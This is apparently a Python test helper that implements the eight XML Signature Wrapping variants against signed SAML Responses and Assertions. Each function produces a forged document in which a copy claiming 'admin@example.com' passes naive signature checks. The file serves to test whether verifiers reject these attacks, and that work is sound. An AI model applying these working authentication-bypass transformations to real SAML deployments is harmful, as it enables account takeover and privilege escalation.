"""The eight XML Signature Wrapping variants of Somorovsky et al., "On Breaking SAML".

Each function takes a validly signed document and returns the attacker's
version: the signed original is kept somewhere xmlsec will still find it (so
a naive verifier succeeds), and an evil copy claiming ``admin@example.com``
sits where a naive consumer would read it. The evil element is marked with
``attacker:evil`` so tests can point a "tricked" consumer straight at it.
XSW1-2 wrap a signed Response; XSW3-8 a signed Assertion.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from tests.signing.saml import ASSERTION, DS_NS, NAME_ID, SAMLP_NS, SIGNATURE

EVIL = "{urn:attacker}evil"
EVIL_NAME = "admin@example.com"
Attack = Callable[[bytes, bool], bytes]


def _out(root: Any) -> bytes:
    result: bytes = etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")
    return result


def _signature(element: Any) -> Any:
    return next(child for child in element if child.tag == SIGNATURE)


def _unsigned(element: Any) -> Any:
    """A copy of ``element`` without its enveloped signature: exactly what was digested."""
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def _evil(element: Any, *, same_id: bool, keep_signature: bool = False) -> Any:
    copy = deepcopy(element) if keep_signature else _unsigned(element)
    if not same_id:
        copy.set("ID", "_evil-" + element.get("ID"))
        for inner in copy.iter(ASSERTION):
            if inner is not copy:
                inner.set("ID", "_evil-" + inner.get("ID"))
    for name_id in copy.iter(NAME_ID):
        name_id.text = EVIL_NAME
    copy.set(EVIL, "true")
    return copy


# --- signed Response ---------------------------------------------------------------------


def xsw1(data: bytes, same_id: bool = False) -> bytes:
    """Evil Response is the root; the signature moves into it and carries the original."""
    original = etree.fromstring(data)
    evil = _evil(original, same_id=same_id)
    signature = deepcopy(_signature(original))
    signature.append(_unsigned(original))
    evil.insert(1, signature)
    return _out(evil)


def xsw2(data: bytes, same_id: bool = False) -> bytes:
    """Like XSW1, but the original sits detached next to (before) the signature."""
    original = etree.fromstring(data)
    evil = _evil(original, same_id=same_id)
    evil.insert(1, _unsigned(original))
    evil.insert(2, deepcopy(_signature(original)))
    return _out(evil)


# --- signed Assertion --------------------------------------------------------------------


def _parts(data: bytes) -> tuple[Any, Any]:
    response = etree.fromstring(data)
    return response, response.find(ASSERTION)


def xsw3(data: bytes, same_id: bool = False) -> bytes:
    """Unsigned evil Assertion inserted before the signed original."""
    response, assertion = _parts(data)
    assertion.addprevious(_evil(assertion, same_id=same_id))
    return _out(response)


def xsw4(data: bytes, same_id: bool = False) -> bytes:
    """The evil Assertion wraps the signed original as its child."""
    response, assertion = _parts(data)
    evil = _evil(assertion, same_id=same_id)
    response.replace(assertion, evil)
    evil.append(assertion)
    return _out(response)


def xsw5(data: bytes, same_id: bool = False) -> bytes:
    """The evil Assertion keeps the signature; the unsigned original goes to the end."""
    response, assertion = _parts(data)
    evil = _evil(assertion, same_id=same_id, keep_signature=True)
    response.replace(assertion, evil)
    response.append(_unsigned(assertion))
    return _out(response)


def xsw6(data: bytes, same_id: bool = False) -> bytes:
    """The evil Assertion keeps the signature, which now carries the original."""
    response, assertion = _parts(data)
    evil = _evil(assertion, same_id=same_id, keep_signature=True)
    _signature(evil).append(_unsigned(assertion))
    response.replace(assertion, evil)
    return _out(response)


def xsw7(data: bytes, same_id: bool = False) -> bytes:
    """The signed original hides in samlp:Extensions; the unsigned evil one takes its place."""
    response, assertion = _parts(data)
    evil = _evil(assertion, same_id=same_id)
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    response.replace(assertion, evil)
    extensions.append(assertion)
    response.insert(1, extensions)
    return _out(response)


def xsw8(data: bytes, same_id: bool = False) -> bytes:
    """The evil Assertion keeps the signature; the original sits in a ds:Object inside it."""
    response, assertion = _parts(data)
    evil = _evil(assertion, same_id=same_id, keep_signature=True)
    holder = etree.SubElement(_signature(evil), f"{{{DS_NS}}}Object")
    holder.append(_unsigned(assertion))
    response.replace(assertion, evil)
    return _out(response)


RESPONSE_ATTACKS: dict[str, Attack] = {"XSW1": xsw1, "XSW2": xsw2}
ASSERTION_ATTACKS: dict[str, Attack] = {
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
